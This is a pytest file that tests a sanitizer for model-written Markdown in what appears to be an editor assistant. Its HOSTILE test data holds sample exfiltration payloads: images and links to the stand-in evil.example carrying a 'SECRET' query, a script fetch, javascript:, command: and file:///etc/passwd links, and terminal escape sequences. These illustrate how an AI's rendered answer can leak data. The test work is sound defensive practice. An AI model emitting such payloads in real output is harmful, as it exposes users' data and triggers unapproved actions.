"""Model-written Markdown: what renderers would fetch, follow or run is gone, and the rest reads as it was written.

A parser of CommonMark, with GitHub's tables, says what a renderer would see.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from autocrea_lsp.assist.markdown import Stream, plain, sanitize

PARSERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable(["table", "strikethrough"]))
ACTIVE = {"image", "link_open", "html_inline", "html_block"}

HOSTILE = {
    "image": "![a](https://evil.example/i.png)",
    "image with data in its address": "![](https://evil.example/?q=SECRET)",
    "image by reference": "![a][r]\n\n[r]: https://evil.example/i.png",
    "image by its own name": "![r]\n\n[r]: https://evil.example/i.png",
    "image in a link": "[![a](https://evil.example/i.png)](https://evil.example)",
    "image in a table": "| a |\n|-|\n| ![x](https://evil.example/i.png) |",
    "image in a table, code over a cell's end": "| `![x](https://evil.example/i.png) | ` |\n|-|-|",
    "image in a heading": "# ![x](https://evil.example/i.png)",
    "image after an indentation": "text\n\n- a\n\n    ![x](https://evil.example/i.png)",
    "image with its text on two lines": "![a\nb](https://evil.example/i.png)",
    "image put together out of pieces": "!<b></b>[x](https://evil.example/i.png)",
    "image behind an escaped backtick": "\\`![x](https://evil.example/i.png)`",
    "image in a fence that has ended": "- a\n\n  ```\n![x](https://evil.example/i.png)\n  ```",
    "image in a fence that is none": "text\n\n     ```\n![x](https://evil.example/i.png)\n     ```",
    "image in a fence of a quote that has ended": "> ```\n![x](https://evil.example/i.png)",
    "image after a tilde fence made by a removal": "<b></b>~~~\n~~~\n![x](https://evil.example/i.png)\n~~~",
    "image behind a backslash before a removal": "\\vscode://e\\` a `![x](https://evil.example/i.png)`",
    "image after a backtick in the language": "``` a`b\n![x](https://evil.example/i.png)\n```",
    "image tag": '<img src="https://evil.example/i.png">',
    "image tag on lines": "<img\nsrc=https://evil.example/i.png\n>",
    "image tag in a tag": "<im<b>g src=https://evil.example/i.png>",
    "script": "<script>fetch('https://evil.example')</script>",
    "frame": "<iframe src=//evil.example></iframe>",
    "drawing with a handler": "<svg/onload=alert(1)>",
    "style": "<style>@import 'https://evil.example'</style>",
    "link tag": '<a href="command:x">click</a>',
    "comment": "<!-- <img src=https://evil.example> -->",
    "comment on lines": "<!--\n<img src=https://evil.example>\n-->",
    "declaration and instruction": "<!DOCTYPE html><?php echo 1 ?><![CDATA[ <b> ]]>",
    "command link": "[click](command:workbench.action.terminal.new)",
    "command link with blanks": "[click]( command:x 'title' )",
    "command link in brackets": "[click](<command:x y>)",
    "command link with escapes": "[click](comm\\and:x)",
    "command link by reference": "[click][r]\n\n[r]: command:x",
    "editor link": "[click](vscode://file/etc/passwd)",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[click](file:///etc/passwd)",
    "script link": "[click](JaVaScRiPt:alert(1))",
    "script link in entities": "[click](&#106;avascript:alert(1))",
    "command autolink": "<command:x>",
    "file autolink": "<file:///etc/passwd>",
    "web link": "[click](https://evil.example/?q=SECRET)",
    "web link with a title": '[click](https://evil.example "title (here)")',
    "web link around a link": "[a [b](https://evil.example) c](https://evil.example)",
    "web link that looks like another": "[https://good.example](https://evil.example)",
    "web link with its text on two lines": "[a\nb](https://evil.example)",
    "web link past a code span": "[a ``](https://evil.example)``",
    "web autolink": "<https://evil.example>",
    "definition in a quote": "[r]\n\n> [r]: https://evil.example",
    "definition in a list": "[r]\n\n- [r]: https://evil.example",
    "definition with a label on two lines": "[a b]\n\n[a\nb]: https://evil.example",
    "definition made by a removal": "[r]\n\n<b></b>[r]: https://evil.example",
    "drawing that fetches": "```mermaid\nclick A href 'https://evil.example'\n```",
}
BARE = {
    "address": "see https://evil.example/a?b=c.",
    "address in a word": "1https://evil.example",
    "address without a scheme": "www.evil.example",
    "address after a backslash": "\\https://evil.example",
    "mail": "write to a@evil.example",
}
HARMLESS = {
    "prose": "A line, and another.\nWith *emphasis*, **strength**, ~~a strike~~ and `code`.",
    "comparison": "`a` if a < b and c > d else 5 <= 6 << 2",
    "headings": "# One\n\n## Two\n\nThree\n=====",
    "lists": "- a\n  - b\n- [ ] open\n- [x] done\n\n1. one\n2) two",
    "table": "| a | b |\n|---|:-:|\n| `x | y` | 2 |",
    "quote": "> quoted\n> > twice\n\n> [!NOTE]\n> text",
    "indexes": "arr[0] and m[i][j]: the cell. Also [1] and [1][2].",
    "snake and dunder": "the __init__ of snake_case_name, 2 * 3 * 4",
    "fence": "```python\nx: List[int] = [](a)\n![x](y) <b>\n```",
    "fence in a list": "1. do\n\n   ```sh\n   ls | wc\n   ```\n2. on",
    "fence in a quote": "> ```\n> <b>\n>\n> ```\nend",
    "fence of tildes around one of backticks": "~~~md\n```\n[a](https://b)\n```\n~~~",
    "fence with a long run": "````\n```\n````",
    "code with tags": "`List<int>` and ``a ` b`` and `<img src=x>` and `[a](https://b)`",
    "rule and break": "a  \nb\\\nc\n\n---",
    "other scripts": "año, 漢字, שלום, می‌خواهم, 👩‍💻",
    "entities": "&amp; &lt;b&gt; &nbsp; &copy;",
    "windows path": "C:\\Users\\name",
}


def expect_inert(markdown: str) -> None:
    """Nothing in it is a link, an image or HTML to a renderer."""

    def kinds(tokens: list[Token]) -> set[str]:
        return {kind for token in tokens for kind in (token.type, *kinds(token.children or []))}

    for parser in PARSERS:
        assert kinds(parser.parse(markdown)).isdisjoint(ACTIVE), markdown


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_nothing_in_a_hostile_answer_is_left_to_fetch_or_follow(payload: str) -> None:
    shown = sanitize(payload)
    expect_inert(shown)
    if not {"`", "~"} & {*payload}:  # in code it may be told
        assert "![" not in shown.replace("\\![", "")
        for scheme in ("command:", "vscode:", "data:", "file:", "javascript:"):
            assert scheme not in shown.lower()


@pytest.mark.parametrize(
    "name", [name for name, text in HOSTILE.items() if "fence" not in name and "drawing that" not in name]
)
def test_those_answers_are_hostile(name: str) -> None:
    """Else the test above would show nothing. Some are so to laxer parsers, or put together by a clumsy cleaner."""
    inert_by_nature = {
        *("image in a table, code over a cell's end", "image put together out of pieces", "image tag in a tag"),
        *("image after an indentation", "script link", "script link in entities", "command link by reference"),
        *("data link", "file link", "editor link", "definition made by a removal", "web link past a code span"),
        *("image behind a backslash before a removal", "image tag on lines"),
        *("drawing with a handler", "file autolink"),
        *("command link", "command link in brackets", "command link with blanks", "command link with escapes"),
    }
    tokens = str([parser.parse(HOSTILE[name]) for parser in PARSERS])
    assert name in inert_by_nature or any(f"type='{kind}'" in tokens for kind in ACTIVE)


@pytest.mark.parametrize("text", BARE.values(), ids=BARE)
def test_an_address_in_prose_becomes_code(text: str) -> None:
    shown = sanitize(text)
    expect_inert(shown)
    assert "`" in shown
    assert "evil.example" in shown.split("`")[1]


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[text](https://x.example/a)", "text (`https://x.example/a`)"),
        ("[https://x.example](https://x.example)", "`https://x.example`"),
        ("[src/a.py](src/a.py#L3)", "src/a.py"),
        ("[text][ref]\n\n[ref]: https://x.example", "text\n\n"),
        ("<https://x.example>", "`https://x.example`"),
        ("(https://x.example/a_(b)).", "(`https://x.example/a_(b)`)."),
        ("a List<int> and Map<K, V>", "a List\\<int> and Map\\<K, V>"),
        ("vector<std::string>", "vector\\<std::string>"),
        ("H<sub>2</sub>O<br>x", "H2O x"),
        ("println![x] of vec![1]", "println!\\[x] of vec!\\[1]"),
        ("handlers[0](event)", "handlers[0]\\(event)"),
        ("[^1]: a note", "[^1]\\: a note"),
        ("an `unclosed span", "an \\`unclosed span"),
        ("```py\nx", "```py\nx\n```"),
        ("```py\nx\n", "```py\nx\n```"),
        ("> ~~~\n> x", "> ~~~\n> x\n> ~~~"),
        ("- ```js\n  x\n  ```", "-\n  ```js\n  x\n  ```"),
        ("\t```\n\tx\n\t```", "   ```\n   x\n   ```"),
        ("```![x](y)\nx\n```", "```\nx\n```"),
        ("file:line, then file:///etc/passwd here", "file:line, then  here"),
        ("Run the command: npm i", "Run the command: npm i"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("red \x1b[31mtext\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x00", "red text link"),
        ("```\n\x1b[2Jx\u202ey\x1b]52;c;AAAA\x07\n```", "```\nxy\n```"),
        ("zero\u200bwidth \U000e0041tags", "zerowidth tags"),
        ("&#x202e;&#27;&ZeroWidthSpace;x", "x"),
    ],
)
def test_what_becomes_of(markdown: str, shown: str) -> None:
    assert sanitize(markdown) == shown


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        (
            "# **Fix** the `parser`\n\n- see [docs](https://x.example)",
            "Fix the parser\n\n- see docs (https://x.example)",
        ),
        ("```py\ndef f(): pass\n```\nend", "def f(): pass\nend"),
        ("a List<int>, __init__, 2 * 3, \\*stars\\*", "a List<int>, __init__, 2 * 3, *stars*"),
        ("![x](https://evil.example)<b>bold</b> &lt;&#27;&gt;", "bold <>"),
        ("[r]: https://x.example\ntext", "text"),
    ],
)
def test_without_a_renderer_it_reads_as_text(markdown: str, text: str) -> None:
    assert plain(markdown) == text


PIECES = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "\n", "\n", "\n\n", " ", "  ", "    ", "\t", ">", "> ", "- ", "1. ", "![", "[", "]"),
        *("](", "][", "]:", "](https://e.v)", "[r]: https://e.v", "![x](https://e.v/i)", "<img src=x>", "<b>", "</b>"),
        *(
            "<",
            "<a",
            "<!--",
            "-->",
            "<https://e.v>",
            "<?",
            "?>",
            ">",
            "\\",
            "|",
            "\n|-|-|\n",
            "x",
            "a b",
            "!",
            "*",
            "_",
        ),
        *("command:x", "https://e.v", "&#60;", "\r", "\r\n", "'", '"', "(", ")", '<a href="', "=", "---", "\x1b[0m"),
        *("\u202e", "\u2028", "file:///e", "a@b.co", "www.e.v", "[x]\n[r]", "1", "%", "_"),
    ]
)
TEXTS = st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=60)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
@example("\\file:///e`a b%[r]: https://e.v#<(")
@example("[![>#\n``](https://e.v)>* ``")
def test_no_text_at_all_is_active_afterwards(text: str) -> None:
    shown = sanitize(text)
    expect_inert(shown)
    expect_inert(sanitize(shown))
    assert not {"\x1b", "\x00", "\x01", "\u202e", "\r"} & {*shown, *plain(text)}


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 7), min_size=1))
def test_pieces_put_together_are_the_whole(text: str, sizes: list[int]) -> None:
    stream = Stream()
    out, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += stream.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    assert out + stream.end() == sanitize(text)


def test_a_line_is_shown_as_soon_as_it_has_ended() -> None:
    stream = Stream()
    assert stream.feed("one [a](comm") == ""
    assert stream.feed("and:x)\n```py\ncode\nmo") == "one a\n```py\ncode\n"
    assert stream.feed("re\n```\n") == "more\n```\n"
    assert stream.end() == ""


@pytest.mark.parametrize(
    "unit",
    [
        *("[", "<", "`", "![", "]", "[a](", "[a](b ", "](", "<!--", "<?", '<a b="', "<a ", "`a", "`` ", "\\", "&#1;"),
        *("a@", "https://", "[a][", "[[a](https://x)", "](<", "[a](((", '[a](b "', "`|![x](u)`|", "**a", "\x1b]8;;"),
        *("\u200b", "> ", "<img ", "\n", "> ```\n", " "),
    ],
)
def test_hostile_input_takes_linear_time(unit: str) -> None:
    def seconds(size: int) -> float:
        text = (unit * (size // len(unit) + 1))[:size]
        started = time.process_time()
        sanitize(text)
        return time.process_time() - started

    small, large = min(seconds(50_000) for _ in range(2)), min(seconds(200_000) for _ in range(2))
    assert large < 0.6, "a megabyte takes seconds"
    assert large < 10 * small + 0.1, "it is not linear"
